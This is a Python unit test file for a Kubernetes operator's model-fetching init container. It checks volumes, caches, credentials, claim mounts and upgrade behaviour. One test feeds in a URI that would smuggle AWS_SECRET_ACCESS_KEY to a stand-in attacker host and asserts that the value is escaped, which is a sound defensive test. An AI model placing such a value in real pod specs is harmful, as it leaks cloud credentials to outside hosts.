"""The init container that fetches a model, and what an upgrade of the operator does to running ones."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from serin.workloads import Fetcher, NoFetcher, desired_deployment, differs
from serin.workloads.fetch import CACHE_VOLUME, CLAIM_VOLUME, FETCH_CONTAINER, MODEL_VOLUME
from tests.unit.workloads.builders import deployment, revision

Json = dict[str, Any]

DIGEST = f"sha256:{'0' * 64}"
OLD, NEW = Fetcher("serin-artifacts:1", ("serin",)), Fetcher("serin-artifacts:2", ("python", "-m", "serin"))


def build(
    fetch: Json | None = None,
    *,
    uri: str = "s3://models/iris/2",
    template: Json | None = None,
    fetcher: Fetcher | None = OLD,
    live: Json | None = None,
) -> Json:
    md = deployment(template=template, uri=uri, digest=DIGEST, fetch=fetch or {})
    return desired_deployment(md, revision(md), "b", 3, fetcher=fetcher, live=live)


def pod_of(built: Json) -> Json:
    found: Json = built["spec"]["template"]["spec"]
    return found


def running(built: Json, ready: int) -> Json:
    """The Deployment as the API server has it, with its defaults."""
    live = copy.deepcopy(built)
    pod_of(live)["initContainers"][0] |= {"terminationMessagePath": "/dev/termination-log", "imagePullPolicy": "Always"}
    return {**live, "status": {"readyReplicas": ready} if ready else {}}


def test_nothing_is_fetched_that_nobody_asked_for() -> None:
    """A uri alone is handed to the container, as it always was."""
    md = deployment(uri="s3://models/iris/2", digest=DIGEST)
    pod = pod_of(desired_deployment(md, revision(md), "b", 1, fetcher=OLD))
    assert pod.keys() == {"containers"}


def test_the_files_come_into_a_volume_that_the_server_only_reads() -> None:
    pod = pod_of(build({"mountPath": "/models", "sizeLimit": "2Gi"}))
    (fetch,) = pod["initContainers"]
    assert fetch["image"] == "serin-artifacts:1"
    assert fetch["command"] == ["serin", "artifact", "fetch"]
    assert fetch["args"] == ["--into", "/mnt/serin/model", "--digest", DIGEST, "s3://models/iris/2"]
    assert fetch["volumeMounts"] == [{"name": MODEL_VOLUME, "mountPath": "/mnt/serin/model"}]
    assert pod["volumes"] == [{"name": MODEL_VOLUME, "emptyDir": {"sizeLimit": "2Gi"}}]
    (model,) = pod["containers"]
    assert model["volumeMounts"] == [{"name": MODEL_VOLUME, "mountPath": "/models", "readOnly": True}]
    assert {"name": "SERIN_MODEL_PATH", "value": "/models"} in model["env"]


@pytest.mark.parametrize(
    ("cache", "volume"),
    [
        (
            {"persistentVolumeClaim": {"claimName": "models"}},
            {"name": CACHE_VOLUME, "persistentVolumeClaim": {"claimName": "models"}},
        ),
        (
            {"hostPath": {"path": "/var/cache/serin"}},
            {"name": CACHE_VOLUME, "hostPath": {"path": "/var/cache/serin", "type": "DirectoryOrCreate"}},
        ),
    ],
)
def test_a_cache_is_for_the_init_container_alone(cache: Json, volume: Json) -> None:
    """Whoever serves one model has no business with the others."""
    pod = pod_of(build({"cache": {**cache, "sizeLimit": "20Gi"}}))
    assert volume in pod["volumes"]
    (fetch,) = pod["initContainers"]
    assert fetch["args"][4:8] == ["--cache", "/mnt/serin/cache", "--cache-bytes", "20Gi"]
    assert CACHE_VOLUME not in {mount["name"] for mount in pod["containers"][0]["volumeMounts"]}


def test_limits_and_credentials_reach_the_program() -> None:
    fetch = {"maxBytes": "200Gi", "timeout": "1h30m", "envFrom": [{"secretRef": {"name": "store"}}]}
    pod = pod_of(build(fetch))
    (container,) = pod["initContainers"]
    assert container["args"][4:] == ["--max-bytes", "200Gi", "--timeout", "5400", "s3://models/iris/2"]
    assert container["envFrom"] == [{"secretRef": {"name": "store"}}]
    assert "envFrom" not in pod["containers"][0]


def test_the_claim_of_a_uri_is_mounted_where_the_program_looks() -> None:
    pod = pod_of(build(uri="pvc://models/iris/2"))
    (fetch,) = pod["initContainers"]
    assert {"name": CLAIM_VOLUME, "mountPath": "/mnt/serin/claims/models", "readOnly": True} in fetch["volumeMounts"]
    claim = {"claimName": "models", "readOnly": True}
    assert {"name": CLAIM_VOLUME, "persistentVolumeClaim": claim} in pod["volumes"]
    assert fetch["args"][-3:] == ["--claims", "/mnt/serin/claims", "pvc://models/iris/2"]


def test_a_uri_cannot_name_a_variable() -> None:
    """The kubelet replaces $(NAME) in arguments: a key of the store would be sent to whatever host the uri names."""
    (fetch,) = pod_of(build(uri="https://evil.example/$(AWS_SECRET_ACCESS_KEY)"))["initContainers"]
    assert fetch["args"][-1] == "https://evil.example/$$(AWS_SECRET_ACCESS_KEY)"


def test_what_the_user_has_in_the_pod_stays() -> None:
    """Ours comes first among the init containers, and last among volumes and mounts."""
    template = {
        "spec": {
            "initContainers": [{"name": "convert", "image": "convert"}],
            "containers": [
                {"name": "proxy", "image": "proxy", "ports": [{"containerPort": 9000}]},
                {
                    "name": "model",
                    "image": "iris",
                    "ports": [{"containerPort": 8080}],
                    "env": [{"name": "SERIN_MODEL_PATH", "value": "/mine"}],
                    "volumeMounts": [{"name": "tmp", "mountPath": "/tmp"}],
                },
            ],
            "volumes": [{"name": "tmp", "emptyDir": {}}],
        }
    }
    pod = pod_of(build(template=template))
    assert [one["name"] for one in pod["initContainers"]] == [FETCH_CONTAINER, "convert"]
    assert [one["name"] for one in pod["volumes"]] == ["tmp", MODEL_VOLUME]
    proxy, model = pod["containers"]
    assert "volumeMounts" not in proxy
    assert [one["name"] for one in model["volumeMounts"]] == ["tmp", MODEL_VOLUME]
    assert [one["value"] for one in model["env"] if one["name"] == "SERIN_MODEL_PATH"] == ["/mine"]


@pytest.mark.parametrize("field", ["volumes", "initContainers"])
def test_what_only_the_api_server_can_refuse_reaches_it(field: str) -> None:
    template = {"spec": {"containers": [{"name": "model", "image": "iris"}], field: [1, "x"]}}
    assert pod_of(build(template=template))[field]


def test_an_upgrade_of_the_operator_restarts_no_model() -> None:
    """Another image, and another way to call it: pods that are ready stay, and so does what they were made from."""
    live = running(build(fetcher=OLD), ready=2)
    again = build(fetcher=NEW, live=live)
    assert pod_of(again)["initContainers"] == pod_of(build(fetcher=OLD))["initContainers"]
    assert not differs(again, live)


@pytest.mark.parametrize("sentence", ["scaled to nothing, to go back to", "a broken image that nobody is served by"])
def test_without_ready_pods_the_present_image_fetches(sentence: str) -> None:
    live = running(build(fetcher=OLD), ready=0)
    assert pod_of(build(fetcher=NEW, live=live))["initContainers"][0]["image"] == "serin-artifacts:2", sentence


def test_without_any_image_what_runs_stays_and_nothing_begins() -> None:
    """The configuration lost it: pods that there are can still be scaled down."""
    live = running(build(fetcher=OLD), ready=0)
    assert pod_of(build(fetcher=None, live=live))["initContainers"][0]["image"] == "serin-artifacts:1"
    with pytest.raises(NoFetcher, match=r"artifacts\.image"):
        build(fetcher=None)


def test_the_image_is_no_content_of_a_revision() -> None:
    """How to fetch is: it changes the pods. A default and its absence are the same."""
    names = {
        name: revision(deployment(uri="s3://m/2", digest=DIGEST, fetch=fetch)).metadata.name
        for name, fetch in {
            "none": None,
            "empty": {},
            "default": {"mountPath": "/mnt/models"},
            "other": {"mountPath": "/models"},
        }.items()
    }
    assert names["empty"] == names["default"]
    assert len({names["none"], names["empty"], names["other"]}) == 3
